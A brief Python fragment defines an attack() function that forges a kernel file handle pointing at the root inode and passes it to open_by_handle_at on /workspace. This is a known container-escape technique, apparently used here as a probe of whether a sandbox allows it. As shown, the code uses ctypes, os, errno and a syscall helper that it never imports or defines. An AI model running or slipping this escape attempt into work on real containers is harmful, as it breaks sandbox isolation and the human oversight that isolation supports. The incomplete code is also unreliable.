import struct


def attack():
    handle = ctypes.create_string_buffer(struct.pack("<IiQ", 8, 1, 2))
    mount = os.open("/workspace", os.O_RDONLY)
    try:
        return f"descriptor {syscall('open_by_handle_at', mount, ctypes.byref(handle), 0)}"
    except OSError as error:
        if error.errno in (errno.ESTALE, errno.EINVAL):
            return "the kernel looked the handle up"
        raise
